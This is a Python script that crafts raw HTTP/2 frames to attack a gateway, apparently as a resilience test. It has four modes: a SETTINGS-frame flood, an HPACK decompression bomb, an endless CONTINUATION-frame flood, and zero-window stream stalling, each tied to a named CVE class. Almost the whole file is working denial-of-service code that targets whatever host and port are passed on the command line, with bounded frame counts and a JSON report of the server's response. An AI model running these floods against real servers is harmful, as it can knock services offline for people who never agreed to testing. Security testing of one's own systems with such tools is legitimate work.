"""HTTP/2 attacks on a gateway, written frame by frame with `hyperframe` and `hpack`
(the libraries under Python's `h2`), so that the client can break the rules a
well-behaved library keeps.

Modes:
  settings      a flood of SETTINGS frames, each of which asks for an ACK, sent
                without reading the ACKs (CVE-2019-9515)
  hpack         an HPACK bomb: one 4 KiB header added to the dynamic table, then a
                HEADERS block that refers to it thousands of times (a few bytes on the
                wire, megabytes decoded)
  continuation  a HEADERS frame without END_HEADERS followed by endless CONTINUATION
                frames (CVE-2024-27316 and its kind)
  zero_window   streams that ask for a large body with an initial window of 0, so the
                server can never send it (CVE-2019-9517's kind)

Prints one JSON line: the GOAWAY error code if one came, whether the server closed
the connection, whether it stopped reading (our sends blocked), the statuses and
RST_STREAM codes it sent, and how many frames we sent. Bounded: a frame count per
mode and 10 s socket timeouts.

usage: python3 h2_attacks.py MODE HOST PORT AUTHORITY PATH
"""
import json
import socket
import sys

import hpack
import hyperframe.frame as hf

mode, host, port, authority, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]

sock = socket.create_connection((host, port), timeout=10)
encoder = hpack.Encoder()
decoder = hpack.Decoder()
decoder.max_allowed_table_size = 65536
decoder.max_header_list_size = 1 << 30
result = {"goaway": None, "closed": False, "stalled": False, "statuses": [], "resets": [], "sent": 0}
buffer = b""


def send(*frames):
    data = b"".join(f.serialize() for f in frames)
    try:
        sock.sendall(data)
        result["sent"] += len(frames)
    except socket.timeout:
        result["stalled"] = True
        raise
    except OSError:
        result["closed"] = True
        raise


def read(timeout):
    """Reads and parses frames until the server is quiet for `timeout` seconds,
    closes, or sends GOAWAY. ACKs the server's SETTINGS."""
    global buffer
    sock.settimeout(timeout)
    try:
        while result["goaway"] is None:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                result["closed"] = True
                return
            if not data:
                result["closed"] = True
                return
            buffer += data
            while len(buffer) >= 9:
                frame, length = hf.Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(buffer[9 : 9 + length]))
                buffer = buffer[9 + length :]
                on_frame(frame)
    finally:
        sock.settimeout(10)


def on_frame(frame):
    if isinstance(frame, hf.GoAwayFrame):
        result["goaway"] = frame.error_code
    elif isinstance(frame, hf.RstStreamFrame):
        result["resets"].append(frame.error_code)
    elif isinstance(frame, hf.HeadersFrame):
        try:
            headers = dict(decoder.decode(frame.data))
            status = headers.get(b":status") or headers.get(":status")
            if status is not None:
                result["statuses"].append(int(status))
        except Exception:
            pass
    elif isinstance(frame, hf.SettingsFrame) and "ACK" not in frame.flags:
        ack = hf.SettingsFrame(0)
        ack.flags.add("ACK")
        try:
            sock.sendall(ack.serialize())
        except OSError:
            pass


def request_headers(stream_id, end_headers=True, extra=()):
    block = encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)] + list(extra)
    )
    frame = hf.HeadersFrame(stream_id)
    frame.data = block
    frame.flags.add("END_STREAM")
    if end_headers:
        frame.flags.add("END_HEADERS")
    return frame


sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
hello = hf.SettingsFrame(0)
if mode == "zero_window":
    hello.settings = {hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0}
send(hello)
read(0.5)

try:
    if mode == "settings":
        batch = []
        for i in range(200_000):
            f = hf.SettingsFrame(0)
            f.settings = {hf.SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + i % 2}
            batch.append(f)
            if len(batch) == 1000:
                send(*batch)
                batch = []
            if result["closed"]:
                break
    elif mode == "hpack":
        # A 4,000-byte header added to the dynamic table: its newest entry, 62.
        block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)])
        block += hpack.Encoder().encode([("x-bomb", "a" * 4000)], huffman=False)
        # 16,000 references to entry 62 (0xbe): 16 KB on the wire, 64 MB decoded.
        block += b"\xbe" * 16000
        headers = hf.HeadersFrame(1)
        headers.flags.add("END_STREAM")
        frames = []
        chunk = 16384
        pieces = [block[i : i + chunk] for i in range(0, len(block), chunk)]
        headers.data = pieces[0]
        frames.append(headers)
        for i, piece in enumerate(pieces[1:], 1):
            c = hf.ContinuationFrame(1)
            c.data = piece
            frames.append(c)
        frames[-1].flags.add("END_HEADERS")
        send(*frames)
    elif mode == "continuation":
        headers = request_headers(1, end_headers=False)
        send(headers)
        batch = []
        for i in range(100_000):
            c = hf.ContinuationFrame(1)
            c.data = encoder.encode([("x-flood-%d" % (i % 50), "v" * 100)])
            batch.append(c)
            if len(batch) == 500:
                send(*batch)
                batch = []
                read(0.001)
            if result["closed"] or result["goaway"] is not None:
                break
    elif mode == "zero_window":
        for stream_id in range(1, 201, 2):
            send(request_headers(stream_id))
    else:
        sys.exit("unknown mode " + mode)
except (socket.timeout, OSError):
    pass
read(3)
print(json.dumps(result))
